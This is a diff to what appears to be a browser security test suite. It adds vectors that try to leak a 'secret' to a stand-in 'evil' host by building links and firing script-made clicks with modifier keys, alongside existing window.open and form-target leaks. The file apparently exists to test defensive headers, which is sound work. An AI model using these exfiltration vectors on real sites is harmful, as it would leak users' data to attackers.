@@ -93,6 +93,22 @@ export const forms: readonly Vector[] = [
   form("form into the whole tab", "target=_top action=EVIL/"),
 ];
 
+function pressed(type: string, how: string): Vector[] {
+  return ["a", "svg a", "area"].map((element) => ({
+    name: `${type} with ${how} on ${element}`,
+    alone: true,
+    silent: "the browser does nothing at a made-up click of this kind, with or without our headers",
+    attack: new Function(
+      "evil",
+      `const svg = ${JSON.stringify(element)} === "svg a";
+       const link = svg ? document.createElementNS("http://www.w3.org/2000/svg", "a") : document.createElement(${JSON.stringify(element)});
+       link.setAttribute("href", evil.http + "/?secret");
+       if (svg) document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(link);
+       link.dispatchEvent(new PointerEvent(${JSON.stringify(type)}, { bubbles: false, cancelable: true, ${how} }));`,
+    ) as Vector["attack"],
+  }));
+}
+
 /** Case 38. */
 export const windows: readonly Vector[] = [
   { name: "window.open", alone: true, attack: ({ http }) => void window.open(`${http}/?secret`) },
@@ -124,9 +140,16 @@ export const windows: readonly Vector[] = [
       link.href = `${http}/?secret`;
       link.target = "_blank";
       link.rel = "noopener noreferrer";
-      link.dispatchEvent(new MouseEvent("click", { bubbles: false, cancelable: true, ctrlKey: true }));
+      link.dispatchEvent(new MouseEvent("click", { bubbles: false, cancelable: true }));
     },
   },
+  // What a person does to open a link in another tab, done by script.
+  ...pressed("click", "ctrlKey: true"),
+  ...pressed("click", "metaKey: true"),
+  ...pressed("click", "shiftKey: true"),
+  ...pressed("click", "altKey: true"),
+  ...pressed("click", "button: 1"),
+  ...pressed("auxclick", "button: 1"),
 ];
 
 /** Case 39. */
